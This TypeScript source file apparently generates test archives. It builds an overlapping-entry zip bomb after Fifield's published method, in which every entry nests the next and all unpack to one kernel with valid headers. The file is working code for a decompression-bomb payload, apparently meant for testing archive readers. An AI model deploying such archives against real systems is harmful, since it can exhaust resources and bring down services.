import { deflateRawSync } from 'node:zlib'
import { writeZip, type ZipEntry } from './zip-writer.ts'

/**
 * A zip whose entries all lie within each other, as David Fifield describes it ("A better zip bomb", 2019): the data of each
 * begins with a stored block that quotes the local header of the next, and goes on with the data of the next; the last is a
 * kernel that all of them unpack to. Every header and every checksum is right.
 */
export function quotedOverlap(count: number, kernel: Buffer): Buffer {
  const last = deflateRawSync(kernel)
  /** From the last to the first: what an entry takes in the file, its header included, and what it unpacks to. */
  let record: Buffer = Buffer.alloc(0)
  let content: Buffer = Buffer.alloc(0)
  const central: Buffer[] = []
  const tails: number[] = []
  for (let index = count - 1; index >= 0; index -= 1) {
    const entry = entryOf(index, record, content, last, kernel)
    const { bytes, data } = writeZip([entry])
    const end = data[0]?.end ?? 0
    record = bytes.subarray(0, end)
    content = Buffer.from(entry.content ?? '')
    central.unshift(bytes.subarray(end, bytes.length - 22))
    tails.unshift(record.length)
  }
  const total = tails[0] ?? 0
  central.forEach((header, index) => {
    header.writeUInt32LE(total - (tails[index] ?? 0), 42)
  })
  return Buffer.concat([record, ...central, endRecord(count, Buffer.concat(central).length, total)])
}

function entryOf(index: number, next: Buffer, nextContent: Buffer, last: Buffer, kernel: Buffer): ZipEntry {
  const name = `${index}`
  if (next.length === 0) return { name, content: kernel, data: last }
  const headerBytes = 30 + next.readUInt16LE(26)
  const quote = Buffer.alloc(5)
  quote.writeUInt16LE(headerBytes, 1)
  quote.writeUInt16LE(headerBytes ^ 0xffff, 3)
  return {
    name,
    content: Buffer.concat([next.subarray(0, headerBytes), nextContent]),
    data: Buffer.concat([quote, next]),
  }
}

function endRecord(count: number, directorySizeBytes: number, directoryOffset: number): Buffer {
  const { bytes } = writeZip([], {
    end: { entryCount: count, entriesOnDisk: count, directorySizeBytes, directoryOffset },
  })
  return bytes
}
